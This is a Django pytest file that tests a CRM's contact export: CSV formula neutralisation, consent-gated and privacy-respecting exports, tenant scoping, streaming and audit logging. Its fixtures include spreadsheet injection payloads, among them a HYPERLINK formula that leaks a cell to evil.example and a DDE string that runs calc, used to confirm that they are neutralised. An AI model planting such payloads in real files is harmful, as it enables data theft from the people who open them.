"""Exporting the filtered contact list: CSV and vCard 4.0, for a purpose the gate checks, streamed,
scoped, neutralized, audited."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import vobject
from django.urls import reverse

from consent.models import ConsentEvent, Purpose
from consent.services import consent_record
from contacts.export_formats import neutralize, unneutralize
from contacts.models import Contact, ContactMethod
from socialcrm.audit.models import AuditEvent
from tests.contacts.importing import run_import
from tests.factories import ContactFactory, ContactMethodFactory, OrganizationFactory, TagFactory

pytestmark = pytest.mark.django_db


def _body(response: Any) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def _rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_body(response).lstrip("\ufeff"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1 555", "'+1 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        # Spreadsheets trim leading blanks before deciding a cell is a formula.
        (' =HYPERLINK("http://evil.example","x")', '\' =HYPERLINK("http://evil.example","x")'),
        ("\t=1+1", "'\t=1+1"),
        ("\r\n@SUM(A1)", "'\r\n@SUM(A1)"),
        ("\n-2", "'\n-2"),
        ("Ann = Bob", "Ann = Bob"),
        ("  Ann", "  Ann"),
        ("", ""),
    ],
)
def test_formula_like_cells_are_neutralized(value: str, expected: str) -> None:
    assert neutralize(value) == expected


@pytest.mark.parametrize(
    ("cell", "value"),
    [("'+44 20 7946 0001", "+44 20 7946 0001"), ("' =1", " =1"), ("'Tis", "'Tis"), ("''", "''"), ("+1", "+1")],
)
def test_the_importer_reads_a_neutralized_cell_back(cell: str, value: str) -> None:
    assert unneutralize(cell) == value


def test_csv_export_of_the_filtered_list(alice, team, client_for) -> None:
    northwind = OrganizationFactory(team=team, name="Northwind Traders")
    vip = TagFactory(team=team, name="vip")
    ann = ContactFactory(team=team, first_name="Ann", last_name="Able", organization=northwind, title="CTO")
    ann.tags.add(vip)
    ContactMethodFactory(contact=ann, kind="email", value="ann@northwind.example", is_primary=True)
    ContactMethodFactory(contact=ann, kind="phone", value="+44 20 7946 0001", normalized="+442079460001")
    ContactFactory(team=team, first_name="Bob", last_name="Other")
    ContactFactory(team=team, first_name="Archie", last_name="Ved", archived=True).tags.add(vip)

    response = client_for(alice).get(reverse("contacts:export_csv"), {"tag": vip.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="contacts.csv"'
    rows = _rows(response)
    # The list's filters: the tag, and active contacts only (its default).
    assert [(row["name"], row["organization"], row["title"], row["tags"]) for row in rows] == [
        ("Ann Able", "Northwind Traders", "CTO", "vip")
    ]
    assert rows[0]["emails"] == "ann@northwind.example"
    assert rows[0]["phones"] == "'+44 20 7946 0001"  # a leading + is a formula to a spreadsheet


def test_the_export_leaves_out_what_people_withhold_and_uses_their_chosen_name(alice, team, client_for) -> None:
    from consent.models import PrivacyPreference

    northwind = OrganizationFactory(team=team, name="Northwind Traders")
    ann = ContactFactory(team=team, first_name="Ann", last_name="Able", organization=northwind, title="CTO")
    ContactMethodFactory(contact=ann, kind="email", value="ann@northwind.example", is_primary=True)
    PrivacyPreference.objects.create(
        contact=ann, identify_by="pseudonym", pseudonym="A. A.", withheld_attributes=["email", "title"]
    )

    csv_body = _body(client_for(alice).get(reverse("contacts:export_csv")))
    vcard_body = _body(client_for(alice).get(reverse("contacts:export_vcard")))

    for body in (csv_body, vcard_body):
        assert "A. A." in body
        assert "Ann Able" not in body
        assert "ann@northwind.example" not in body
        assert "CTO" not in body
    assert "Northwind Traders" in csv_body


def test_the_export_writes_times_in_iso_8601_with_their_microseconds(alice, team, client_for) -> None:
    from datetime import UTC, datetime

    ann = ContactFactory(team=team, first_name="Ann", last_name="Able")
    bob = ContactFactory(team=team, first_name="Bob", last_name="Brown")
    # PostgreSQL writes .12 for .120000 and nothing for whole seconds; the export does not.
    Contact.objects.filter(pk=ann.pk).update(
        created_at=datetime(2025, 3, 4, 5, 6, 7, 120000, tzinfo=UTC),
        last_contacted_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
    )
    Contact.objects.filter(pk=bob.pk).update(created_at=datetime(2025, 12, 31, 23, 59, 59, 999999, tzinfo=UTC))

    rows = {row["name"]: row for row in _rows(client_for(alice).get(reverse("contacts:export_csv")))}

    assert (rows["Ann Able"]["created_at"], rows["Ann Able"]["last_contacted_at"]) == (
        "2025-03-04T05:06:07.120000+00:00",
        "2026-01-02T03:04:05+00:00",
    )
    assert (rows["Bob Brown"]["created_at"], rows["Bob Brown"]["last_contacted_at"]) == (
        "2025-12-31T23:59:59.999999+00:00",
        "",
    )
    for contact in Contact.objects.all():
        name = contact.display_name
        assert rows[name]["created_at"] == contact.created_at.isoformat()


def test_formula_injection_is_neutralized_in_the_csv(alice, team, client_for) -> None:
    ContactFactory(
        team=team,
        first_name="",
        last_name="",
        display_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        title="@SUM(1+1)",
        notes="-cmd|' /C calc'!A0",
    )

    row = _rows(client_for(alice).get(reverse("contacts:export_csv")))[0]

    assert row["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["title"] == "'@SUM(1+1)"
    assert row["notes"] == "'-cmd|' /C calc'!A0"


def test_csv_export_imports_back_with_the_same_phones_and_names(alice, team, client_for) -> None:
    ann = ContactFactory(team=team, first_name="Ann", last_name="Able", display_name="Ann Able", title="-")
    ContactMethodFactory(contact=ann, kind="email", value="ann@northwind.example", is_primary=True)
    ContactMethodFactory(contact=ann, kind="phone", value="+44 20 7946 0001", normalized="+442079460001")
    ann.last_contacted_at = ann.created_at
    ann.save()
    exported = _body(client_for(alice).get(reverse("contacts:export_csv")))
    assert "'+44 20 7946 0001" in exported  # neutralized for spreadsheets
    ContactMethod.objects.all().delete()
    ann.delete()

    job = run_import(alice, team, "contacts.csv", exported.encode())

    assert job.counts == {"create": 1}
    back = Contact.objects.get()
    # The apostrophe our export adds is read back off; the export's dates are not a name.
    assert (back.display_name, back.first_name, back.last_name, back.title) == ("Ann Able", "Ann", "Able", "-")
    assert sorted(back.methods.values_list("kind", "value")) == [
        ("email", "ann@northwind.example"),
        ("phone", "+44 20 7946 0001"),
    ]


def test_vcard_export_reads_back(alice, team, client_for) -> None:
    proseware = OrganizationFactory(team=team, name="Proseware, Inc.")
    ngozi = ContactFactory(
        team=team, first_name="Ngozi", last_name="Adeyemi", organization=proseware, title="Partnerships Lead"
    )
    ngozi.notes = "Met in Lagos; likes long notes " + "x" * 100
    ngozi.save()
    ContactMethodFactory(contact=ngozi, kind="email", value="ngozi@proseware.example", label="work", is_primary=True)
    ContactMethodFactory(contact=ngozi, kind="phone", value="+234 803 555 0199", normalized="+2348035550199")

    response = client_for(alice).get(reverse("contacts:export_vcard"))

    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    body = _body(response)
    assert all(len(line.encode()) <= 75 for line in body.split("\r\n"))
    card = vobject.readOne(body)
    assert card.version.value == "4.0"
    assert card.fn.value == "Ngozi Adeyemi"
    assert card.org.value == ["Proseware, Inc."]
    assert card.email.value == "ngozi@proseware.example"
    assert card.email.params == {"TYPE": ["work"], "PREF": ["1"]}
    assert card.tel.value == "tel:+2348035550199"
    assert card.note.value == ngozi.notes


def test_export_is_scoped_to_what_the_user_sees(alice, charlie, team, other_team, client_for) -> None:
    ContactFactory(team=team, first_name="Alices", last_name="Contact")
    ContactFactory(team=other_team, first_name="Charlies", last_name="Contact")

    charlies = _rows(client_for(charlie).get(reverse("contacts:export_csv")))
    # Even naming alice's team in the filters: an invalid choice filters nothing of hers in.
    with_team = _rows(client_for(charlie).get(reverse("contacts:export_csv"), {"team": team.pk}))

    assert [row["name"] for row in charlies] == ["Charlies Contact"]
    assert "Alices Contact" not in [row["name"] for row in with_team]


def test_every_exported_contact_is_audited(alice, team, client_for) -> None:
    contacts = [ContactFactory(team=team) for _ in range(3)]

    _body(client_for(alice).get(reverse("contacts:export_vcard")))

    events = AuditEvent.objects.filter(action="contact.exported")
    assert sorted(int(event.object_id) for event in events) == sorted(contact.pk for contact in contacts)
    assert {event.actor_id for event in events} == {alice.pk}


def test_export_streams_in_chunks(alice, team, client_for, monkeypatch) -> None:
    monkeypatch.setattr("contacts.exporting.CHUNK", 2)
    for index in range(5):
        ContactFactory(team=team, first_name=f"P{index}", last_name="X", email=f"p{index}@x.example")
    response = client_for(alice).get(reverse("contacts:export_csv"))

    chunks = [chunk.decode() for chunk in response.streaming_content]

    # The header, then one piece per chunk of contacts (2 + 2 + 1).
    assert [chunk.count("\r\n") for chunk in chunks] == [1, 2, 2, 1]
    assert ContactMethod.objects.count() == 5


def _record(actor: Any, contact: Any, code: str, action: str) -> None:
    consent_record(
        actor=actor,
        contact=contact,
        purpose=Purpose.objects.get(code=code),
        action=action,
        source=ConsentEvent.Source.EMAIL,
        evidence="The person's email of today.",
    )


def test_a_marketing_export_leaves_out_whom_the_gate_refuses(alice, team, client_for) -> None:
    consented = ContactFactory(team=team, first_name="Grace", last_name="Granted")
    withdrawn = ContactFactory(team=team, first_name="Wanda", last_name="Withdrew")
    objected = ContactFactory(team=team, first_name="Oscar", last_name="Objected")
    ContactFactory(team=team, first_name="Nina", last_name="Never-asked")
    for person in (consented, withdrawn, objected):
        _record(alice, person, "marketing_email", "grant")
    _record(alice, withdrawn, "marketing_email", "withdraw")
    _record(alice, objected, "marketing_email", "object")
    client = client_for(alice)

    marketing = client.get(reverse("contacts:export_csv"), {"purpose": "marketing_email"})
    sales = client.get(reverse("contacts:export_csv"))

    # Marketing email needs consent: only Grace; the other three are counted as left out.
    assert [row["name"] for row in _rows(marketing)] == ["Grace Granted"]
    assert marketing["X-Excluded-Count"] == "3"
    assert marketing["X-Export-Purpose"] == "marketing_email"
    assert marketing["Content-Disposition"] == 'attachment; filename="contacts-marketing-email.csv"'
    # Sales outreach rests on legitimate interests: a withdrawn marketing consent does not
    # stop it, but an objection to direct marketing (absolute) does.
    assert sorted(row["name"] for row in _rows(sales)) == ["Grace Granted", "Nina Never-asked", "Wanda Withdrew"]
    assert sales["X-Excluded-Count"] == "1"
    # Only the people actually exported are audited as exported.
    marketing_audit = AuditEvent.objects.filter(action="contact.exported", object_id=str(consented.pk))
    assert marketing_audit.count() == 2
    assert AuditEvent.objects.filter(action="contact.exported", object_id=str(withdrawn.pk)).count() == 1


def test_an_objection_to_sales_outreach_leaves_the_person_out_of_a_sales_vcard(alice, team, client_for) -> None:
    ContactFactory(team=team, first_name="Stay", last_name="In")
    out = ContactFactory(team=team, first_name="Left", last_name="Out")
    _record(alice, out, "sales_outreach", "object")

    response = client_for(alice).get(reverse("contacts:export_vcard"))

    cards = list(vobject.readComponents(_body(response)))
    assert [card.fn.value for card in cards] == ["Stay In"]
    assert response["X-Excluded-Count"] == "1"


def test_an_unknown_export_purpose_is_refused(alice, team, client_for) -> None:
    ContactFactory(team=team)

    response = client_for(alice).get(reverse("contacts:export_csv"), {"purpose": "anything"})

    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action="contact.exported").exists()


def test_the_gate_is_asked_once_per_chunk(alice, team, client_for, monkeypatch) -> None:
    from contacts import registry

    asked: list[int] = []
    real = registry._bulk_gate[0]

    def counting(ids: list[int], purpose: str) -> Any:
        asked.append(len(ids))
        return real(ids, purpose)

    monkeypatch.setattr(registry, "_bulk_gate", [counting])
    monkeypatch.setattr("contacts.exporting.CHUNK", 2)
    for _ in range(5):
        ContactFactory(team=team)

    _body(client_for(alice).get(reverse("contacts:export_csv"), {"purpose": "marketing_email"}))

    assert asked == [2, 2, 1]


def test_each_chunk_is_audited_as_it_is_sent(alice, team, client_for, monkeypatch) -> None:
    monkeypatch.setattr("contacts.exporting.CHUNK", 3)
    contacts = [ContactFactory(team=team) for _ in range(7)]
    response = client_for(alice).get(reverse("contacts:export_csv"))
    exported = AuditEvent.objects.filter(action="contact.exported")

    audited = [
        sorted(int(pk) for pk in exported.values_list("object_id", flat=True)) for _ in response.streaming_content
    ]

    # The header, then a chunk of 3 + 3 + 1 contacts, each audited (one event per contact,
    # appended in bulk) before it is sent: a download cut short is audited for what it sent.
    ids = [contact.pk for contact in contacts]
    assert audited == [[], ids[:3], ids[:6], ids]
    assert {event.actor_id for event in exported} == {alice.pk}


def test_the_export_menu_leads_to_a_page_saying_who_is_left_out(alice, team, client_for) -> None:
    vip = TagFactory(team=team, name="vip")
    consented = ContactFactory(team=team, first_name="Grace", last_name="Granted")
    objected = ContactFactory(team=team, first_name="Oscar", last_name="Objected")
    never = ContactFactory(team=team, first_name="Nina", last_name="Never-asked")
    ContactFactory(team=team, first_name="Not", last_name="Tagged")
    for person in (consented, objected, never):
        person.tags.add(vip)
    _record(alice, consented, "marketing_email", "grant")
    _record(alice, objected, "marketing_email", "object")
    client = client_for(alice)
    confirm = reverse("contacts:export_confirm")

    menu = client.get(reverse("contacts:list"), {"tag": vip.pk}).content.decode()
    page = client.get(confirm, {"tag": vip.pk, "purpose": "marketing_email"})

    assert f'href="{confirm}?tag={vip.pk}&amp;purpose=marketing_email"' in menu
    assert page.status_code == 200
    text = " ".join(page.content.decode().split())
    assert "1 contact will be exported" in text
    assert "2 contacts of this list are left out: they have not consented to marketing email" in text
    download = f"{reverse('contacts:export_csv')}?tag={vip.pk}&amp;purpose=marketing_email"
    assert f'href="{download}"' in page.content.decode()
    # The counts are what the download does; nothing is exported (or audited) by the page.
    assert not AuditEvent.objects.filter(action="contact.exported").exists()
    assert [row["name"] for row in _rows(client.get(download.replace("&amp;", "&")))] == ["Grace Granted"]
    sales = " ".join(client.get(confirm, {"tag": vip.pk}).content.decode().split())
    # Oscar's objection to direct marketing stops sales outreach too.
    assert "2 contacts will be exported" in sales
    assert "1 contact of this list is left out: they objected to sales outreach or direct marketing" in sales
    everyone = " ".join(client.get(confirm, {"q": "Nina"}).content.decode().split())
    assert "1 contact will be exported" in everyone and "No one on this list is left out." in everyone


def test_the_export_confirmation_asks_the_gate_in_bulk(alice, team, client_for, django_assert_max_num_queries) -> None:
    client = client_for(alice)
    for size in (2, 12):
        while Contact.objects.count() < size:
            ContactFactory(team=team)
        # Session and user, the user's teams (visibility), the list's ids, the gate's one
        # query per 1,000 contacts, and the purpose cache's reload at most.
        with django_assert_max_num_queries(6):
            page = client.get(reverse("contacts:export_confirm"))
        assert f"{size} contacts will be exported" in " ".join(page.content.decode().split())


def test_the_export_confirmation_refuses_an_unknown_purpose(alice, client_for) -> None:
    assert client_for(alice).get(reverse("contacts:export_confirm"), {"purpose": "anything"}).status_code == 400
